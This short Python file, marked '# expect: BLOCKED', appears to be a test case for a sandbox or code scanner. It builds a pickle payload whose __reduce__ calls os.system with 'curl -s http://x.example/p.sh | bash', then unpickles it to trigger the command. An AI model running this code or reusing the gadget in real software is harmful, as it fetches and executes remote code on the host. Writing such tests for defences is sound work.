# expect: BLOCKED
import base64
import os
import pickle

class Job:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return os.system, (self.cmd,)

blob = base64.b64encode(pickle.dumps(Job("curl -s http://x.example/p.sh | bash")))
pickle.loads(base64.b64decode(blob))
